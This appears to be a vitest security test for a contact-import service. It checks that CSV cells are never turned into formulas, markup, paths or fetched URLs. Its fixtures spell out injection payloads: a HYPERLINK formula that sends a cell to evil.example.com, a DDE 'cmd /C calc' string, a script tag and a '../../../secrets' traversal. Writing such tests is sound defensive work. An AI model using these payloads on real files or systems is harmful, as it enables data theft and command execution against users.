import { env } from 'cloudflare:workers'
import { expect, it } from 'vitest'
import { read } from 'xlsx'
import { csvOf } from '../testing/roster.ts'
import { FILE_URL, World } from '../testing/world.ts'

const FORMULA = '=HYPERLINK("https://evil.example.com/?"&A1,"click")'
const COMMAND = "+cmd|' /C calc'!A0"
const MARKUP = '<script>alert(1)</script>'
const PATH = '../../../secrets'
const URL_IN_CELL = 'https://evil.example.com/tracker.png'

const ROWS = [
  { ID: 'good', Name: MARKUP, Title: FORMULA, 'Organization Name': URL_IN_CELL, Groups: '=1+1' },
  { ID: FORMULA, Name: COMMAND, Number: '' },
  { ID: PATH, Name: MARKUP, Title: '@SUM(A1)', Number: 'tel', 'Email Address': '-2+3' },
]

it('invariant 11: the contents of a file are data, never a formula, markup, a path or a URL to follow', async () => {
  const world = await World.start()
  const source = await world.source({ limits: { errors: null }, notify: { emails: ['a@example.org'], when: 'always' } })
  const run = await world.import(source, () => {
    const headers = { 'Content-Disposition': `attachment; filename="${PATH}/<b>.csv"` }
    return new Response(csvOf(ROWS), { headers })
  })
  expect(run).toMatchObject({ status: 'succeeded', counts: { added: 1, errors: 2 } })

  // No cell becomes a formula in a report.
  const csv = await (await world.request('GET', `/api/runs/${run.id}/report.csv`)).text()
  expect(csv).toContain(`"'${FORMULA.replaceAll('"', '""')}"`)
  expect(csv).not.toMatch(/(^|,)"?[=+@-]/m)
  const bytes = await (await world.request('GET', `/api/runs/${run.id}/report.xlsx`)).arrayBuffer()
  const sheet = read(bytes).Sheets.Problems ?? {}
  const cells = Object.entries(sheet).filter(([address]) => !address.startsWith('!'))
  expect(cells.map(([, cell]) => cell.v)).toContain(FORMULA)
  for (const [, cell] of cells) expect([cell.f, cell.l]).toEqual([undefined, undefined])
  expect(world.mails[0]?.attachments.map(({ filename }) => filename)).toEqual(['import-errors.xlsx'])

  // No cell becomes markup in a page: every answer that quotes a cell is JSON, text or a download.
  for (const path of [`/api/runs/${run.id}/problems`, '/api/contacts', '/api/groups', `/api/runs/${run.id}`]) {
    const response = await world.request('GET', path)
    expect(response.headers.get('Content-Type')).toContain('json')
    expect(response.headers.get('X-Content-Type-Options')).toBe('nosniff')
    await response.arrayBuffer()
  }
  const snapshot = await world.request('GET', `/api/runs/${run.id}/snapshot`)
  expect(snapshot.headers.get('Content-Type')).toBe('application/octet-stream')
  expect(snapshot.headers.get('Content-Disposition')).toMatch(/^attachment; filename="[\w.-]+"$/)
  expect(new TextDecoder().decode(await snapshot.arrayBuffer())).toBe(csvOf(ROWS))

  // Muster follows no path or URL from a cell.
  expect(world.requests.map(({ url }) => url)).toEqual([FILE_URL])
  const { objects } = await env.FILES.list()
  for (const { key } of objects)
    expect(key).toMatch(/^(mails|(snapshots|plans)\/[a-z2-7]{13})\/[a-z2-7]{13}(\.[\w./-]+)?$/)
  expect(objects.some(({ key }) => key.includes('..'))).toBe(false)
})
